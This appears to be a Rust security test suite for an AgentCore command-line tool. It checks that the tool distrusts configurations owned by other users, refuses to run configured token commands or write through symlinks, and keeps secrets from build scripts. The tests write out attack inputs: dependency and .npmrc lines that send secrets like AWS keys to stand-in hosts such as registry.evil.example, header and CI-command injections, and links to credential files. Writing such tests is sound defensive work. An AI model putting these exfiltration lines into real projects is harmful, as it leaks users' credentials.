//! What a configuration that somebody else wrote can do: run programs, take secrets of this machine, write elsewhere.

use std::os::unix::fs::{MetadataExt, lchown, symlink};

use crate::support::{Sandbox, World, lacked, packages_available};

const STRANGER: u32 = 4711;
/// A configuration whose token comes from a program, which leaves a file behind when it ran.
const COMMAND: &str = "agents:\n  a:\n    name: a\n    entrypoint: agent.py\n    bedrock_agentcore:\n      agent_id: a-Ab3dEf6hIj\n      \
                       agent_arn: arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/a-Ab3dEf6hIj\n    agentcore:\n      token:\n        \
                       grant: command\n        command: [/bin/sh, -c, 'echo ran > ran; echo a.b.c']\n";
const FILE: &str = ".bedrock_agentcore.yaml";
const ARN: &str = "arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/a-Ab3dEf6hIj";

/// A project below the world's, with a work tree; false where files cannot be given to another user.
fn shared_machine(world: &World) -> bool {
    for folder in ["shared/.git", "shared/mine"] {
        std::fs::create_dir_all(world.project().join(folder)).unwrap();
    }
    world.write(&format!("shared/{FILE}"), COMMAND);
    let root = std::fs::metadata(world.project()).unwrap().uid() == 0;
    if !root {
        lacked("root", "only root can give a file to another user");
    }
    root
}

fn give(world: &World, path: &str, user: u32) {
    lchown(world.project().join(path), Some(user), None).unwrap();
}

/// The commands that come upon a configuration, each with its arguments.
const VERBS: &[&[&str]] = &[
    &["identity", "token"],
    &["invoke", "{}", "--auth"],
    &["status"],
    &["launch", "--plan"],
    &["destroy", "--dry-run"],
    &["build"],
    &["configure", "show"],
    &["auth", "explain"],
    &["identity", "verify"],
];

#[test]
fn configuration_of_another_user_is_not_picked_up() {
    let world = World::new();
    if !shared_machine(&world) {
        return;
    }
    let mine = world.project().join("shared/mine");
    let refused = |dir: &str| {
        for verb in VERBS {
            let run = world.agentcore(verb).dir(world.project().join(dir)).run();
            let run = run.code(2).says("belongs to another user").says("--config").says("AGENTCORE_CONFIG");
            assert!(!run.stderr_text().contains("echo ran"), "{run}");
        }
        let json = world.agentcore(&["status", "-o", "json"]).dir(world.project().join(dir)).run().code(2).json();
        assert_eq!(json["error"]["code"], "config.owner");
        assert!(!world.project().join("shared/ran").exists(), "the command ran");
    };
    for part in [&format!("shared/{FILE}"), "shared", "shared/mine", "shared/.git"] {
        give(&world, part, STRANGER);
        refused("shared/mine");
        give(&world, part, 0);
    }
    // Beside it, too: `cd /tmp` is enough to come upon a file there.
    give(&world, &format!("shared/{FILE}"), STRANGER);
    refused("shared");
    // A `.git` that is a file, as in a linked work tree, ends the search as well.
    give(&world, &format!("shared/{FILE}"), 0);
    std::fs::remove_dir(world.project().join("shared/.git")).unwrap();
    world.write("shared/.git", "gitdir: /nowhere\n");
    give(&world, "shared/.git", STRANGER);
    refused("shared/mine");
    // Whoever names the file trusts it.
    let named = world.agentcore(&["configure", "show", "--config", "../.bedrock_agentcore.yaml"]).dir(&mine);
    named.run().code(0);
    let variable = world.agentcore(&["configure", "show"]).dir(&mine).var("AGENTCORE_CONFIG", "..");
    variable.run().code(0);
}

#[test]
fn link_counts_with_its_own_and_targets_owner() {
    let world = World::new();
    if !shared_machine(&world) {
        return;
    }
    let file = world.project().join("shared").join(FILE);
    world.write("elsewhere.yaml", COMMAND);
    std::fs::remove_file(&file).unwrap();
    symlink(world.project().join("elsewhere.yaml"), &file).unwrap();
    let show = || world.agentcore(&["configure", "show"]).dir(world.project().join("shared/mine")).run();
    show().code(0);
    give(&world, &format!("shared/{FILE}"), STRANGER);
    show().code(2).says("belongs to another user");
    give(&world, &format!("shared/{FILE}"), 0);
    give(&world, "elsewhere.yaml", STRANGER);
    show().code(2).says("belongs to another user");
}

#[test]
fn who_calls_sudo_is_believed() {
    let world = World::new();
    if !shared_machine(&world) {
        return;
    }
    for part in ["shared", "shared/mine", "shared/.git", &format!("shared/{FILE}")] {
        give(&world, part, STRANGER);
    }
    let show = |user: &str| {
        let show = world.agentcore(&["configure", "show"]).dir(world.project().join("shared/mine"));
        show.var("SUDO_UID", user).run()
    };
    show(&STRANGER.to_string()).code(0);
    show("4712").code(2);
}

#[test]
fn new_configuration_ignores_an_untrusted_one_above() {
    let world = World::new();
    if !shared_machine(&world) {
        return;
    }
    give(&world, &format!("shared/{FILE}"), STRANGER);
    world.write("shared/mine/agent.py", "app = 1\n").write("shared/mine/requirements.txt", "");
    let configure = ["configure", "-ni", "-e", "agent.py", "--region", "us-west-2"];
    world.agentcore(&configure).dir(world.project().join("shared/mine")).run().code(0);
    assert!(world.project().join("shared/mine").join(FILE).is_file());
    // Its own folder's is another matter: it would be read.
    give(&world, &format!("shared/mine/{FILE}"), STRANGER);
    world.agentcore(&configure).dir(world.project().join("shared/mine")).run().code(2).says("another user");
}

/// An agent whose configuration has these lines below `token:`.
fn with_token(world: &World, lines: &[&str]) {
    let lines: String = lines.iter().map(|line| format!("        {line}\n")).collect();
    let head = "agents:\n  a:\n    name: a\n    entrypoint: agent.py\n    agentcore:\n      token:\n";
    world.write(FILE, &format!("{head}{lines}"));
}

#[test]
fn a_command_of_a_configuration_waits_for_trust() {
    let world = World::new();
    world.write(FILE, COMMAND);
    let ran = || std::fs::remove_file(world.project().join("ran")).is_ok();
    for verb in [&["identity", "token"][..], &["invoke", "{}", "--auth"], &["identity", "token", "--no-cache"]] {
        let run = world.agentcore(verb).run().code(2);
        let run = run.says("AGENTCORE_TRUST_CONFIG=1").says("--trust-config").says("echo ran > ran");
        assert!(!ran(), "{run}");
        let json = world.agentcore(verb).args(&["-o", "json"]).run().code(2).json();
        assert_eq!(json["error"]["code"], "config.untrusted");
    }
    // Neither of these leaves anything behind that would trust it the next time.
    let trusted = world.agentcore(&["identity", "token", "--no-cache", "--trust-config"]).run().code(0);
    assert_eq!((trusted.stdout_text().as_str(), ran()), ("a.b.c\n", true));
    let no = world.agentcore(&["identity", "token", "--no-cache"]).var("AGENTCORE_TRUST_CONFIG", "0");
    no.run().code(2);
    let variable = world.agentcore(&["identity", "token", "--no-cache"]).var("AGENTCORE_TRUST_CONFIG", "1");
    variable.run().code(0);
    assert!(ran());
    world.agentcore(&["identity", "token", "--no-cache"]).run().code(2);
    assert!(!ran());
}

#[test]
fn typed_command_needs_no_trust_once_saved() {
    let world = World::new();
    world.write(FILE, "agents:\n  a:\n    name: a\n    entrypoint: agent.py\n");
    world.write("token.sh", "echo a.b.c\n");
    let typed = ["identity", "token", "--no-cache", "--token-command", "/bin/sh token.sh"];
    world.agentcore(&typed).run().code(0);
    world.agentcore(&typed).args(&["--save"]).run().code(0);
    let ask = || world.agentcore(&["identity", "token", "--no-cache"]).run();
    assert_eq!(ask().code(0).stdout_text(), "a.b.c\n");
    // What it runs is another thing now.
    world.write("token.sh", "echo d.e.f\n");
    ask().code(2);
    world.write("token.sh", "echo a.b.c\n");
    ask().code(0);
    let text = world.read(FILE);
    world.write(FILE, &text.replace("token.sh", "other.sh"));
    world.write("other.sh", "echo a.b.c\n");
    ask().code(2);
    // Neither in a copy of the project elsewhere.
    world.write(FILE, &text);
    world.write("copy/token.sh", "echo a.b.c\n").write(&format!("copy/{FILE}"), &text);
    world.agentcore(&["identity", "token", "--no-cache"]).dir(world.project().join("copy")).run().code(2);
}

#[test]
fn configuration_sends_no_machine_secrets_away() {
    let world = World::new();
    let recorder = crate::support::Recorder::start();
    let url = format!("discovery_url: {}/.well-known/openid-configuration", recorder.url());
    std::fs::create_dir_all(world.path("home/.aws")).unwrap();
    std::fs::write(world.path("home/.aws/credentials"), "aws_secret_access_key = canary-in-a-file\n").unwrap();
    world.write(".git/config", "extraheader = canary-in-git\n");
    symlink(world.path("home/.aws"), world.project().join("link")).unwrap();
    let home = world.path("home/.aws/credentials").display().to_string();
    for (grant, key, value) in [
        ("client_credentials", "client_secret_env", "AWS_SECRET_ACCESS_KEY"),
        ("client_credentials", "client_secret_env", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"),
        ("client_credentials", "client_secret_env", "AGENTCORE_BEARER_TOKEN"),
        ("client_credentials", "client_secret_file", home.as_str()),
        ("client_credentials", "client_secret_file", "../home/.aws/credentials"),
        ("client_credentials", "client_secret_file", "link/credentials"),
        ("client_credentials", "client_secret_file", "/proc/self/environ"),
        ("client_credentials", "client_secret_file", ".git/config"),
        ("client_credentials", "private_key_file", home.as_str()),
        ("user_password", "password_env", "GITHUB_TOKEN"),
        ("user_password", "password_file", "link/credentials"),
        ("refresh_token", "refresh_token_env", "CI_JOB_TOKEN"),
        ("refresh_token", "refresh_token_file", home.as_str()),
        ("gitlab_ci", "variable", "GITHUB_TOKEN"),
        ("file", "file", home.as_str()),
    ] {
        with_token(
            &world,
            &[&format!("grant: {grant}"), &url, "client_id: c", "username: u", &format!("{key}: {value}")],
        );
        let mut command = world.agentcore(&["identity", "token", "--no-cache"]);
        for name in [
            "AWS_SECRET_ACCESS_KEY",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
            "AGENTCORE_BEARER_TOKEN",
            "GITHUB_TOKEN",
            "CI_JOB_TOKEN",
        ] {
            command = command.var(name, "canary-in-a-variable");
        }
        let run = command.run().code(2).says("--trust-config").says(&format!("agentcore.token.{key}"));
        assert!(!format!("{run}").contains("canary"), "{run}");
    }
    let seen = recorder.seen();
    assert!(seen.is_empty(), "{seen:?}");
}

#[test]
fn set_up_in_a_strangers_folder_is_refused() {
    let world = World::new();
    if !shared_machine(&world) {
        return;
    }
    let file = "shared/mine/.agentcore_identity_cognito_m2m.json";
    let record = r#"{"flow_type": "m2m", "runtime": {"pool_id": "us-west-2_x"}, "identity": {"pool_id": "us-west-2_x",
        "client_id": "c", "client_secret": "s", "token_endpoint": "http://127.0.0.1:9/token",
        "resource_server_identifier": "r", "scopes": ["read"], "flow_type": "client_credentials"}}"#;
    world.write(file, record);
    let mine = world.project().join("shared/mine");
    std::fs::remove_file(world.project().join("shared").join(FILE)).unwrap();
    let verbs: &[&[&str]] = &[
        &["identity", "token"],
        &["identity", "verify"],
        &["identity", "cleanup", "--force"],
        &["identity", "setup-cognito", "--auth-flow", "m2m"],
    ];
    // The folder and the file, the folder alone, the file alone.
    for (folder, of_file) in [(STRANGER, STRANGER), (STRANGER, 0), (0, STRANGER)] {
        give(&world, "shared/mine", folder);
        give(&world, file, of_file);
        for verb in verbs {
            world.agentcore(verb).dir(&mine).run().code(2).says("belongs to another user");
        }
    }
    // Whoever calls sudo, and whoever names the folder, believes it; nobody answers then.
    give(&world, "shared/mine", STRANGER);
    give(&world, file, STRANGER);
    for (name, value) in [("SUDO_UID", STRANGER.to_string()), ("AGENTCORE_CONFIG", ".".to_owned())] {
        let run = world.agentcore(&["identity", "token"]).dir(&mine).var(name, value).run();
        assert!(run.code == Some(1) && run.stderr_text().contains("could not fetch"), "{run}");
    }
}

#[test]
fn requirements_send_no_secrets_to_other_hosts() {
    if !packages_available() {
        return;
    }
    let mut world = World::new();
    world.set("AGENTCORE_BASE_IMAGE", "scratch");
    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
    let build = ["build", "--builder", "native"];
    for name in ["IDENTITY_CLIENT_SECRET", "RUNTIME_PASSWORD", "OPENAI_API_KEY", "DATABASE_URL", "SCW_SECRET_KEY"] {
        for line in [
            format!("six @ http://127.0.0.1:9/${{{name}}}/six-1.0-py3-none-any.whl\n"),
            format!("--index-url http://u:${{{name}}}@127.0.0.1:9/simple\nsix\n"),
            format!("six @ git+https://${{{name}}}@127.0.0.1:9/six\n"),
        ] {
            world.write("requirements.txt", &line);
            let run = world.agentcore(&build).var(name, "canary-of-the-machine").run().code(2);
            run.says(name).says("--trust-config").says("AGENTCORE_BUILD_ENV");
        }
        // What binds a version is read by the installer, too.
        world.write("requirements.txt", "six\n-c pins.txt\n");
        world.write("pins.txt", &format!("six @ http://127.0.0.1:9/${{{name}}}/six-1.0-py3-none-any.whl\n"));
        world.agentcore(&build).var(name, "canary-of-the-machine").run().code(2).says(name);
    }
}

#[test]
fn an_index_of_a_checkout_gets_no_secret() {
    if !packages_available() {
        return;
    }
    let mut world = World::new();
    world.set("AGENTCORE_BASE_IMAGE", "scratch");
    let index = "http://127.0.0.1:9/simple";
    let project =
        "[project]\nname = \"agent\"\nversion = \"1\"\nrequires-python = \">=3.10\"\ndependencies = [\"six\"]\n";
    let named = "[[tool.uv.index]]\nurl = \"http://${OPENAI_API_KEY}@127.0.0.1:9/simple\"\n";
    world.write("agent.py", "app = 1\n").write("pyproject.toml", &format!("{project}\n{named}"));
    world.write(
        "uv.lock",
        &format!(
            "version = 1\nrequires-python = \">=3.10\"\n\n[[package]]\nname = \"agent\"\nversion = \"1\"\n\
             source = {{ virtual = \".\" }}\ndependencies = [{{ name = \"six\" }}]\n\n[[package]]\nname = \"six\"\nversion = \"1.0\"\n\
             source = {{ registry = \"{index}\" }}\nwheels = [{{ url = \"{index}/six-1.0-py3-none-any.whl\", \
             hash = \"sha256:{}\" }}]\n",
            "0".repeat(64)
        ),
    );
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
    let run = world.agentcore(&["build", "--builder", "native"]).var("OPENAI_API_KEY", "canary-of-the-machine").run();
    run.code(2).says("OPENAI_API_KEY").says("AGENTCORE_BUILD_ENV");
}

/// What a stranger's link leads to: a folder with files, whose every byte must stay as it is.
struct Outside {
    before: std::collections::BTreeMap<std::path::PathBuf, Option<Vec<u8>>>,
}

impl Outside {
    /// Makes `project/link` a link to `outside/target`.
    fn of(world: &World, links: &[(&str, &str)]) -> Self {
        let outside = world.path("tmp/outside");
        std::fs::create_dir_all(outside.join("folder")).unwrap();
        for file in ["file", "folder/session-DEFAULT", "folder/Dockerfile"] {
            std::fs::write(outside.join(file), "canary-of-the-user\n").unwrap();
        }
        for (link, target) in links {
            let link = world.project().join(link);
            std::fs::create_dir_all(link.parent().unwrap()).unwrap();
            symlink(outside.join(target), link).unwrap();
        }
        Self { before: Self::look(world) }
    }

    fn look(world: &World) -> std::collections::BTreeMap<std::path::PathBuf, Option<Vec<u8>>> {
        world.tree().into_iter().filter(|(path, _)| path.starts_with(world.path("tmp/outside"))).collect()
    }

    #[track_caller]
    fn check(&self, world: &World, what: &str) {
        assert_eq!(Self::look(world), self.before, "{what}");
    }
}

#[test]
fn configure_writes_through_no_link() {
    let configure = ["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"];
    let force = ["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2", "--force"];
    for (link, target) in [
        (FILE, "new.yaml"),
        (FILE, "file"),
        (".bedrock_agentcore", "folder"),
        (".bedrock_agentcore", "new"),
        (".bedrock_agentcore/a", "folder"),
        (".bedrock_agentcore/a/Dockerfile", "new"),
        (".bedrock_agentcore/a/Dockerfile", "file"),
        (".dockerignore", "new"),
        (".dockerignore", "file"),
    ] {
        for command in [&configure[..], &force[..]] {
            let world = World::new();
            world.write("agent.py", "app = 1\n").write("requirements.txt", "");
            let outside = Outside::of(&world, &[(link, target)]);
            let run = world.agentcore(command).run();
            outside.check(&world, &format!("{link} -> {target}: {run}"));
            assert!(!format!("{run}").contains("canary"), "{run}");
            assert!(world.project().join(link).is_symlink(), "the link is not ours to replace\n{run}");
            // A file of the user's in that place is not written over either.
            let is_kept = link == ".dockerignore" || (link.ends_with("Dockerfile") && command.len() == configure.len());
            if !is_kept {
                let run = run.code(2).says("symbolic link").says(target);
                assert!(link == FILE || !world.project().join(FILE).exists(), "half done\n{run}");
            }
        }
    }
}

#[test]
fn linked_configuration_is_read_but_never_written() {
    let world = World::new().with_credentials();
    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
    std::fs::create_dir(world.project().join("kept")).unwrap();
    std::fs::rename(world.project().join(FILE), world.project().join("kept/real.yaml")).unwrap();
    symlink("kept/real.yaml", world.project().join(FILE)).unwrap();
    let before = world.read("kept/real.yaml");
    world.agentcore(&["configure", "show"]).run().code(0);
    for command in [
        &["configure", "set-default", "a"][..],
        &["configure", "-ni", "-e", "agent.py", "-n", "b"],
        &["launch"],
        &["destroy", "--force"],
        &["identity", "token", "--token-command", "/bin/sh -c 'echo a.b.c'", "--save"],
    ] {
        let run = world.agentcore(command).run();
        assert_eq!(world.read("kept/real.yaml"), before, "{run}");
        // To set what is set already changes nothing.
        if command.get(1) != Some(&"set-default") {
            run.code(2).says("symbolic link").says("--config").says("kept/real.yaml");
        }
    }
    world.agentcore(&["configure", "show", "--config", "kept/real.yaml"]).run().code(0);
}

#[test]
fn set_up_writes_nothing_outside_the_project() {
    let sandbox = Sandbox::start(World::new(), &["--runner", "process"]);
    let stores = [".agentcore_identity_cognito_user.json", ".agentcore_identity_user.env"];
    let links = [(".gitignore", "file"), (stores[0], "file"), (stores[1], "new")];
    let outside = Outside::of(&sandbox, &links[..1]);
    let setup = sandbox.agentcore(&["identity", "setup-cognito", "--pool-name", "links"]).run().code(0);
    outside.check(&sandbox, &format!("{setup}"));
    setup.says(".gitignore").says("symbolic link");
    // A second run finds links in the place of what it wrote.
    for (link, target) in &links[1..] {
        std::fs::remove_file(sandbox.project().join(link)).unwrap_or_default();
        symlink(sandbox.path("tmp/outside").join(target), sandbox.project().join(link)).unwrap();
    }
    let again = sandbox.agentcore(&["identity", "setup-cognito", "--pool-name", "links"]).run();
    outside.check(&sandbox, &format!("{again}"));
    assert!(!format!("{again}").contains("canary"), "{again}");
}

#[test]
fn builds_write_nothing_through_a_checkouts_link() {
    let world = World::new().with_credentials();
    world.write("agent.py", "").write("requirements.txt", "");
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "-do", "--offline"]).run().code(0);
    let elsewhere = world.path("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    symlink(&elsewhere, world.project().join("out")).unwrap();
    for args in [&["--sbom", "out"][..], &["--sbom", "out/bills"], &["-o", "out/agent.tar"]] {
        world.agentcore(&["build"]).args(args).run().code(2).says("symbolic link");
    }
    std::fs::create_dir(world.project().join("sub")).unwrap();
    world
        .agentcore(&["build", "--sbom", "../out", "--config", "../.bedrock_agentcore.yaml"])
        .dir(world.project().join("sub"))
        .run()
        .code(2)
        .says("symbolic link");
    let junit = ["auth", "test", "--arn", ARN, "--junit", "out/auth.xml"];
    world.agentcore(&junit).run().code(2).says("symbolic link");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
}

#[test]
fn what_a_link_leads_to_is_quoted_nowhere() {
    let world = World::new();
    for (text, name) in [
        ("root:canary1:19000:0:99999:7:::\nbin:*:canary2::\n", "shadow"),
        ("[default]\naws_access_key_id = canary1\naws_secret_access_key = canary2\n", "credentials"),
        ("{\"auths\": {\"canary1\": {\"auth\": \"canary2\"}}}\n", "config.json"),
        ("default_agent: [canary1]\nagents: {canary2: 3}\ncanary3: 1\n", "settings.yaml"),
        ("agents:\n  a:\n    name: a\n    entrypoint: a.py\n    canary1: canary2\n", "valid.yaml"),
        ("-----BEGIN canary1 PRIVATE KEY-----\ncanary2\n", "key"),
    ] {
        let target = world.path("home").join(name);
        std::fs::write(&target, text).unwrap();
        let _ = std::fs::remove_file(world.project().join(FILE));
        symlink(&target, world.project().join(FILE)).unwrap();
        world.write("agent.py", "app = 1\n").write("requirements.txt", "");
        for command in [
            &["status"][..],
            &["configure", "list"],
            &["launch", "-v"],
            &["identity", "token", "-o", "json"],
            &["configure", "-ni", "-e", "agent.py"],
            &["configure", "list", "--config", FILE],
        ] {
            let run = world.agentcore(command).run();
            assert!(!format!("{run}").contains("canary"), "{run}");
            // The others may be read as configurations without agents.
            if ["credentials", "settings.yaml"].contains(&name) {
                assert_eq!(run.code, Some(2), "{run}");
            }
        }
        if name == "settings.yaml" {
            // Named, it is the user's own file, and they learn what is wrong with it.
            world.agentcore(&["status"]).run().says("--config").says(name);
        }
    }
}

#[test]
fn call_refuses_headers_that_frame_or_sign_it() {
    let mut world = World::new().with_credentials();
    let recorder = crate::support::Recorder::start();
    world.set("AWS_ENDPOINT_URL", recorder.url());
    let arn = "arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/a-Ab3dEf6hIj";
    for header in [
        "Host: evil.example",
        "content-length: 3",
        "Transfer-Encoding: chunked",
        "Expect: 100-continue",
        "CONNECTION: close",
        "Keep-Alive: 1",
        "Upgrade: h2c",
        "TE: trailers",
        "Trailer: x",
        "Proxy-Authorization: Basic eA==",
        "Authorization: Bearer x",
        "X-Amz-Date: 20200101T000000Z",
        "x-amz-security-token: t",
        "X-Amz-Content-Sha256: UNSIGNED-PAYLOAD",
        "Sec-WebSocket-Key: x",
        "X-Amzn-Bedrock-AgentCore-Runtime-Session-Id: x",
        "Content-Type: text/plain",
        " Host : evil.example",
    ] {
        for ws in [false, true] {
            let command = world.agentcore(&["invoke", "{}", "--arn", arn, "-H", header]);
            let command = if ws { command.args(&["--ws"]) } else { command };
            let json = command.args(&["-o", "json"]).run().code(2).json();
            assert_eq!(json["error"]["code"], "input.header", "{header}");
        }
    }
    assert!(recorder.seen().is_empty(), "{:?}", recorder.seen());
    for header in ["X-Mine: 1", "X-Amzn-Bedrock-AgentCore-Runtime-Custom-Mine: 1", "Traceparent: 00-1-2-01"] {
        world.agentcore(&["invoke", "{}", "--arn", arn, "-H", header, "--timeout", "20"]).run();
    }
    assert!(!recorder.seen().is_empty());
}

#[test]
fn what_is_printed_gives_no_orders() {
    let world = World::new();
    world.write(FILE, "agents:\n  a:\n    name: a\n    entrypoint: agent.py\n");
    for name in
        ["x\n::error::y", "x\r::stop-commands::y", "x\n\u{a0} ::add-mask::y", "##vso[task.setvariable variable=x]y"]
    {
        for verb in ["status", "launch", "destroy"] {
            let text = world.agentcore(&[verb, "--agent", name]).run().code(5).stderr_text();
            let commands = text.split(['\n', '\r']).filter(|line| line.trim_start().starts_with("::"));
            assert_eq!(commands.count(), 0, "{text:?}");
            assert!(!text.contains("##vso["), "{text:?}");
        }
    }
    let evil = "x\u{9b}31m\u{85}\u{202e}\u{2066}\u{200f}\u{61c}\u{7f}##vso[y";
    let run = world.agentcore(&["status", "--agent", evil, "-o", "json"]).run().code(5);
    let text = run.stdout_text();
    let raw = text.trim_end().chars().find(|c| c.is_control() || "\u{202e}\u{2066}\u{200f}\u{61c}".contains(*c));
    assert_eq!((raw, text.contains("##vso[")), (None, false), "{text:?}");
    assert!(run.json()["error"]["message"].as_str().unwrap().contains(evil), "{text:?}");
}

/// Variables that no code of a build may see, each with the canary as its value.
const SECRETS: &[&str] = &[
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_CONTAINER_AUTHORIZATION_TOKEN",
    "AGENTCORE_BEARER_TOKEN",
    "BEDROCK_AGENTCORE_BEARER_TOKEN",
    "AGENTCORE_CLIENT_SECRET",
    "RUNTIME_CLIENT_SECRET",
    "RUNTIME_PASSWORD",
    "IDENTITY_CLIENT_SECRET",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "GITHUB_TOKEN",
    "CI_JOB_TOKEN",
    "OPENAI_API_KEY",
    "SOME_SECRET_OF_THE_JOB",
];

/// Runs a build with all of them set, and gives what the code in it saw.
fn surroundings(world: &World, args: &[&str], dump: &std::path::Path) -> (crate::support::Run, String) {
    let mut command =
        world.agentcore(args).var("KEPT_FOR_THE_BUILD", "yes").var("AGENTCORE_BUILD_ENV", "KEPT_FOR_THE_BUILD");
    for name in SECRETS {
        command = command.var(name, "canary-of-the-machine");
    }
    let run = command.run();
    let seen = std::fs::read_to_string(dump).unwrap_or_else(|_| panic!("the code never ran\n{run}"));
    assert!(!seen.contains("canary-of-the-machine"), "{seen}");
    assert!(seen.contains("PATH") && seen.contains("KEPT_FOR_THE_BUILD"), "{seen}");
    (run, seen)
}

#[test]
fn a_packages_own_build_sees_no_secret() {
    if !packages_available() {
        return;
    }
    let mut world = World::new();
    world.set("AGENTCORE_BASE_IMAGE", "scratch");
    let dump = world.path("tmp/dump");
    world.write("agent.py", "import lib\n").write("requirements.txt", "./lib\n").write("lib/lib.py", "");
    for name in ["UV_INDEX_X_PASSWORD", "SSH_AUTH_SOCK"] {
        // uv builds where it is there, pip elsewhere; neither needs the agent.
        world.set(name, "only-for-another");
    }
    let setup = format!(
        "import os\nfrom setuptools import setup\nopen({:?}, 'a').write(repr(dict(os.environ)))\n\
         setup(name='lib', version='1', py_modules=['lib'])\n",
        dump.display().to_string()
    );
    world.write("lib/setup.py", &setup);
    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
    let build = ["build", "--builder", "native"];
    let (run, seen) = surroundings(&world, &build, &dump);
    run.code(0);
    assert!(!seen.contains("SSH_AUTH_SOCK"), "{seen}");
}

#[test]
fn scripts_of_node_packages_see_no_secret() {
    let Some(mut world) = World::with_node() else { return };
    world.set("AGENTCORE_BASE_IMAGE", "scratch");
    let dump = world.path("tmp/dump");
    let script = format!(
        "require('fs').appendFileSync({:?}, JSON.stringify(process.env)); require('fs').mkdirSync('dist', {{recursive: true}}); \
         require('fs').writeFileSync('dist/agent.js', '')",
        dump.display().to_string()
    );
    world.write("src/agent.ts", "export {};\n").write("dump.js", &script);
    world.write("tsconfig.json", r#"{"compilerOptions":{"rootDir":"src","outDir":"dist"},"include":["src"]}"#);
    world.write(
        "package.json",
        r#"{"name":"agent","version":"1.0.0","private":true,"scripts":{"build":"node dump.js","postinstall":"node dump.js"}}"#,
    );
    world.npm("", &["install", "--package-lock-only", "--ignore-scripts"]);
    for (name, value) in [
        ("NODE_AUTH_TOKEN", "login-of-a-registry"),
        ("NPM_TOKEN", "login-of-a-registry"),
        ("npm_config__auth", "login-of-a-registry"),
        ("NPM_CONFIG_OTP", "login-of-a-registry"),
        ("NIX_CONFIG", "access-tokens = github.com=login-of-a-registry"),
    ] {
        world.set(name, value);
    }
    world.agentcore(&["configure", "-ni", "-e", "src/agent.ts", "-n", "a", "--region", "us-west-2"]).run().code(0);
    let build = ["build", "--builder", "native"];
    let (run, seen) = surroundings(&world, &build, &dump);
    // Installed with its scripts, and built.
    assert!(seen.matches("\"PATH\"").count() >= 2, "{seen}\n{run}");
    assert!(!seen.contains("login-of-a-registry"), "{seen}");
    run.code(0);
    world.write(".npmrc", "//registry.evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n");
    let command = world.agentcore(&build).var("AWS_SECRET_ACCESS_KEY", "canary").run().code(2);
    command.says("AWS_SECRET_ACCESS_KEY").says(".npmrc");
}

/// pnpm and yarn with their versions and programs, and how each writes a lock without installing.
const MANAGERS: [(&str, &str, &str, &[&str]); 2] = [
    ("pnpm", "10.34.4", "bin/pnpm.cjs", &["install", "--lockfile-only", "--ignore-scripts"]),
    ("yarn", "1.22.22", "bin/yarn.js", &["install", "--ignore-scripts", "--non-interactive"]),
];

#[test]
fn scripts_under_pnpm_and_yarn_see_no_login() {
    for (name, version, program, lock) in MANAGERS {
        let Some((mut world, log)) = World::with_manager(name, version, program) else { return };
        world.set("AGENTCORE_BASE_IMAGE", "scratch");
        let dump = world.path("tmp/dump");
        let script = format!(
            "const fs = require('fs'); fs.appendFileSync({:?}, JSON.stringify(process.env)); \
             fs.mkdirSync('dist', {{recursive: true}}); fs.writeFileSync('dist/agent.js', '')",
            dump.display().to_string()
        );
        world.write("src/agent.ts", "export {};\n").write("dump.js", &script);
        world.write("tsconfig.json", r#"{"compilerOptions":{"rootDir":"src","outDir":"dist"},"include":["src"]}"#);
        let package = r#"{"name":"agent","version":"1.0.0","private":true,"scripts":{"build":"node dump.js","postinstall":"node dump.js"},"dependencies":{"ms":"2.1.3"}}"#;
        world.write("package.json", package);
        world.manager(name, "", lock);
        let _ = std::fs::remove_dir_all(world.project().join("node_modules"));
        world.write(".npmrc", "//registry.evil.example/:_authToken=${ACME_NPM_TOKEN}\n");
        for variable in ["NODE_AUTH_TOKEN", "NPM_TOKEN", "ACME_NPM_TOKEN", "npm_config__auth"] {
            world.set(variable, "login-of-a-registry");
        }
        world.agentcore(&["configure", "-ni", "-e", "src/agent.ts", "-n", "a", "--region", "us-west-2"]).run().code(0);
        let (run, seen) = surroundings(&world, &["build", "--builder", "native"], &dump);
        assert!(seen.matches("\"PATH\"").count() >= 2, "{name}: {seen}\n{run}");
        assert!(!seen.contains("login-of-a-registry"), "{name}: {seen}");
        run.code(0);
        let log = std::fs::read_to_string(&log).unwrap();
        let installs = log.lines().filter(|line| line.starts_with("install") && !line.contains("--offline"));
        assert!(
            installs.clone().count() >= 2 && installs.clone().all(|line| line.contains("--ignore-scripts")),
            "{log}"
        );
    }
}

#[test]
fn engines_git_and_their_kin_see_no_secret() {
    for (program, requirement, args) in [
        ("docker", "", ["build", "--builder", "engine"]),
        ("git", "lib @ git+https://127.0.0.1:9/lib\n", ["build", "--builder", "native"]),
    ] {
        let mut world = World::new();
        world.set("AGENTCORE_BASE_IMAGE", "scratch");
        let dump = world.path("tmp/dump");
        let script = format!("#!/bin/sh\nexport -p >> '{}'\nexit 1\n", dump.display());
        let file = world.path("bin").join(program);
        std::fs::write(&file, script).unwrap();
        std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        world.write("agent.py", "app = 1\n").write("requirements.txt", requirement);
        world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
        let (run, _) = surroundings(&world, &args, &dump);
        assert_ne!(run.code, Some(0), "{run}");
    }
}

#[test]
fn credential_helper_gets_the_keys_of_its_cloud() {
    let world = World::new();
    let dump = world.path("tmp/dump");
